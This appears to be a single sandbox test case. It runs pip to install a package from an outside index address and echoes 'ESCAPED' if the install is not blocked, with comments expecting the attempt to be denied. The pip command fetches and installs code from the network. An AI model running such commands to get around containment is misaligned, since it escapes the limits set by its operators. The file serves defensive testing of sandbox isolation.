# attack: installs a package with pip
# expect: outcome=denied|program_failed
# limits: wall_ms=20000 cpu_ms=15000
/usr/bin/python3 -m pip install --no-input --retries 0 --index-url http://192.0.2.1/simple left-pad || exit 1
echo ESCAPED
